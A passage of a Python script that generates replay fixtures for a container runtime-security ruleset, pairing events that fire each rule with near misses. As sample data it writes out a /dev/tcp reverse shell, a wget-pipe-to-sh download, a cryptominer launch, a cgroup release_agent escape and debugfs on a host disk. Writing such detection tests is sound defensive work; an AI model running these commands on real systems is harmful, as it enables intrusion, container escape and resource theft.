connect(223, ctr_proc("python3", "/usr/local/bin/python3.12", ["/app/worker.py"]),
        "10.244.2.9", 40112, "10.100.0.1", 443, container=PROD,
        comment="fires: EKS default API address")
connect(224, ctr_proc("coredns", "/coredns", ["-conf", "/etc/coredns/Corefile"]),
        "10.244.0.3", 39822, "10.96.0.1", 443, container=SYS,
        comment="near miss: kube-system controller")
connect(226, KUBELET, "10.0.0.5", 51400, "10.96.0.1", 443,
        comment="near miss: on the host, not in a container")


# 23 Packet socket opened in container
def socket(num, proc, domain, raw, container=None, comment=None):
    emit(num, "socket", proc, {"fd": 3, "domain": {"text": domain, "raw": raw}, "type": 3,
                               "proto": 768}, res=3, container=container, comment=comment)


TCPDUMP = ctr_proc("tcpdump", "/usr/bin/tcpdump", ["-i", "eth0", "-w", "/tmp/cap.pcap"],
                   parent=ctr_proc("sh", "/bin/sh", [], parent=NGINX_CTR))
socket(231, TCPDUMP, "AF_PACKET", 17, container=WEB, comment="fires: tcpdump in a pod")
socket(232, PY_CTR, "AF_INET", 2, container=API, comment="near miss: an IPv4 socket")
socket(234, ctr_proc("dhclient", "/sbin/dhclient", ["-d", "eth1"]), "AF_PACKET", 17,
       container=PRIV, comment="near miss: a DHCP client")
socket(236, child(ROOT_SHELL, "tcpdump", "/usr/bin/tcpdump", ["-i", "eth0"]), "AF_PACKET", 17,
       comment="near miss: tcpdump on the host")


# 24 Standard stream redirected to network in container
def dup2(num, proc, oldfd, newfd, fd, container, comment):
    emit(num, "dup2", proc, {"res": newfd, "oldfd": oldfd, "newfd": newfd}, res=newfd, fd=fd,
         container=container, comment=comment)


SOCK = {"num": 3, "type": "ipv4", "l4proto": "tcp", "cip": "10.244.1.17", "cport": 38512,
        "sip": "203.0.113.7", "sport": 4444, "connected": True}
REV = ctr_proc("bash", "/bin/bash", ["-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"],
               parent=PY_CTR)
dup2(241, REV, 3, 0, SOCK, API,
     "fires: bash -i >& /dev/tcp/... in a pod")
dup2(242, REV, 4, 1, {"num": 4, "type": "pipe", "name": "pipe:[88231]"}, API,
     "near miss: stdout to a pipe")
dup2(244, REV, 3, 10, SOCK, API, "near miss: socket duplicated to a high fd")
dup2(246, ctr_proc("xinetd", "/usr/sbin/xinetd", ["-dontfork"]), 3, 0,
     dict(SOCK, is_server=True, cip="203.0.113.99", sip="10.244.1.17", sport=23), API,
     "near miss: xinetd hands a connection to its service")

# 25 Interactive terminal shell in container
execve(251, ctr_proc("bash", "/bin/bash", [], tty=34816, sid=31),
       container=WEB, comment="fires (and Shell started): kubectl exec -it web -- bash")
execve(252, ctr_proc("sh", "/bin/sh", ["-c", "curl -fs localhost:8080/healthz"]),
       container=WEB, comment="near miss (Shell started fires): exec probe without a terminal")
execve(253, {"pid": 1, "name": "bash", "exepath": "/bin/bash", "args": ["-l"], "uid": 0,
             "user": "root", "gid": 0, "group": "root", "tty": 34816, "cwd": "/"},
       container=PRIV, comment="fires (and Shell started): an interactive shell as pid 1")
execve(254, ctr_proc("bash", "/bin/bash", [], tty=34816,
                     parent=ctr_proc("bash", "/bin/bash", [], tty=34816)),
       container=WEB, comment="near miss: a nested shell in an existing session")

# 26 Shell started in container
execve(261, ctr_proc("sh", "/bin/sh", ["-c", "wget -qO- http://203.0.113.50/a | sh"],
                     parent=NODE_CTR, uid=1000, user="node"),
       container=API, comment="fires: the node app spawns a shell")
execve(262, ctr_proc("sh", "/bin/sh", ["-c", "date"],
                     parent=ctr_proc("bash", "/bin/bash", ["/app/entry.sh"])),
       container=API, comment="near miss: a shell started by a shell script")
execve(264, child(ALICE_SHELL, "bash", "/usr/bin/bash", []),
       comment="near miss: a shell on the host")

# 27 Package management in container
execve(271, ctr_proc("apt-get", "/usr/bin/apt-get", ["install", "-y", "nmap"],
                     parent=ctr_proc("bash", "/bin/bash", [], tty=34816, parent=NGINX_CTR),
                     tty=34816),
       container=WEB, comment="fires: apt-get install in a running pod")
execve(272, ctr_proc("dpkg", "/usr/bin/dpkg", ["--unpack", "/var/cache/apt/archives/nmap.deb"],
                     parent=ctr_proc("apt-get", "/usr/bin/apt-get", ["install", "-y", "nmap"])),
       container=WEB, comment="near miss: dpkg run by apt-get (reported once, at apt-get)")
execve(273, ctr_proc("pip", "/usr/local/bin/python3.12", ["install", "requests"],
                     exe="/usr/local/bin/pip", parent=ctr_proc("sh", "/bin/sh", [], parent=PY_CTR)),
       container=API, comment="fires: pip install in a pod")
execve(274, ctr_proc("rpm", "/usr/bin/rpm", ["-qa"]), container=PROD,
       comment="near miss: rpm query")
execve(275, ctr_proc("python3", "/usr/local/bin/python3.12", ["-m", "pip", "install", "pyyaml"],
                     parent=ctr_proc("sh", "/bin/sh", [], parent=PY_CTR)),
       container=API, comment="fires: python -m pip install in a pod")
BUILD2 = dict(BUILD, start_ts=ts(278) - 2_000_000_000)
execve(278, ctr_proc("apt-get", "/usr/bin/apt-get", ["install", "-y", "ca-certificates"],
                     parent=ctr_proc("sh", "/bin/sh", ["-c", "apt-get install -y ca-certificates"])),
       container=BUILD2, comment="near miss: an image build step 2 s into its container")
execve(276, child(ROOT_SHELL, "apt-get", "/usr/bin/apt-get", ["install", "-y", "nmap"]),
       comment="near miss: on the host")

# 28 Binary outside image executed in container
execve(281, ctr_proc("xmrig", "/tmp/xmrig", ["--donate-level", "1", "-o", "pool.example.net:443"],
                     exe="./xmrig", cwd="/tmp/", exe_lower_layer=False, exe_upper_layer=True,
                     exe_writable=True, exe_ino_ctime=1718000201000000000,
                     parent=ctr_proc("sh", "/bin/sh", [], parent=NGINX_CTR)),
       container=WEB, flags="EXE_WRITABLE|EXE_UPPER_LAYER",
       comment="fires: a downloaded miner runs in a pod")
execve(282, NGINX_CTR, container=WEB, comment="near miss: a binary from the image")
execve(284, ctr_proc("update-ca-certi", "/usr/sbin/update-ca-certificates", ["--fresh"],
                     exe_lower_layer=False, exe_upper_layer=True,
                     parent=ctr_proc("sh", "/bin/sh",
                                     ["/var/lib/dpkg/info/ca-certificates.postinst"],
                                     parent=ctr_proc("dpkg", "/usr/bin/dpkg",
                                                     ["--configure", "-a"]))),
       container=WEB, comment="near miss: a just-installed helper run by dpkg")

# 29 Filesystem debugger in privileged container
execve(291, ctr_proc("debugfs", "/usr/sbin/debugfs", ["-w", "/dev/sda1"], parent=PRIV_SHELL,
                     tty=34817), container=PRIV,
       comment="fires: debugfs on the host disk from a privileged pod")
execve(292, ctr_proc("debugfs", "/usr/sbin/debugfs", ["-R", "stats", "/tmp/img.ext4"]),
       container=PROD, comment="near miss: not privileged")

# 30 Cgroup release_agent written in container
openat(301, ctr_proc("sh", "/usr/bin/dash",
                     ["-c", "echo /var/lib/containerd/x/cmd > /tmp/cgrp/release_agent"],
                     parent=PRIV_SHELL, cap_effective=CAPS_ALL),
       "/tmp/cgrp/release_agent", "O_WRONLY|O_CREAT|O_TRUNC", container=PRIV,
       comment="fires: release_agent escape")
openat(302, ctr_proc("cat", "/usr/bin/cat", ["/sys/fs/cgroup/rdma/release_agent"],
                     parent=PRIV_SHELL), "/sys/fs/cgroup/rdma/release_agent", "O_RDONLY",
       container=PRIV, comment="near miss: reading it")
openat(304, ctr_proc("sh", "/usr/bin/dash", ["-c", "echo $$ > /sys/fs/cgroup/x/cgroup.procs"],
                     parent=PRIV_SHELL), "/sys/fs/cgroup/x/cgroup.procs", "O_WRONLY|O_TRUNC",
       container=PRIV, comment="near miss: another cgroup file")


# 31 Privileged container started
def container_event(num, c, comment):
    emit(num, "container", None, {"id": c["full_id"][:12], "type": c["type"], "name": c["name"],
                                  "image": c["image"]}, container=c, comment=comment)


container_event(311, dict(PRIV, start_ts=ts(311)), "fires: a privileged debug pod starts")
container_event(312, dict(WEB, start_ts=ts(312)), "near miss: not privileged")
container_event(314, ctr("ca11c0ca11c00718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f9",
                         "k8s_calico-node_calico-node-7xk2p_kube-system",
                         "docker.io/calico/node:v3.27.0", "kube-system", "calico-node-7xk2p",
                         privileged=True, start_ts=ts(314)),
                "near miss: an allow-listed node agent")


# 32 io_uring set up by unexpected program (rules/70-io-uring.yaml)
def io_uring_setup(num, proc, res=3, container=None, comment=None):
    emit(num, "io_uring_setup", proc, {"arg0": 8, "arg1": 140737488347136}, res=res,
         container=container, comment=comment)


io_uring_setup(321, child(ROOT_SHELL, "x", "/tmp/.x/x", []),
               comment="fires: a dropped binary sets up a ring")
io_uring_setup(322, P("postgres", "/usr/lib/postgresql/18/bin/postgres",
                      ["-D", "/var/lib/postgresql/18/main"], 104, "postgres", SYSTEMD),
               comment="near miss: a known io_uring user")
io_uring_setup(324, child(ROOT_SHELL, "x", "/tmp/.x/x", []), res=-1,
               comment="near miss: the setup failed")


def main():
    out = os.path.join(os.path.dirname(os.path.abspath(__file__)), "fixtures",
                       "default_rules.jsonl")
    with open(out, "w") as f:
        f.write("# Scenario fixtures for the default ruleset (rules/). GENERATED by\n"
                "# tests/scenario/default_rules_fixtures.py; edit that, not this file.\n"
                "# Format: docs/replay-format.md. num = <rule index><k>: odd k fires, even k is"
                " a near miss.\n")
        for comment, ev in EVENTS:
            if comment:
                f.write(f"# {ev['num']}: {comment}\n")
            f.write(json.dumps(ev, separators=(",", ":")) + "\n")
    print(f"{len(EVENTS)} events -> {out}")


if __name__ == "__main__":
    main()
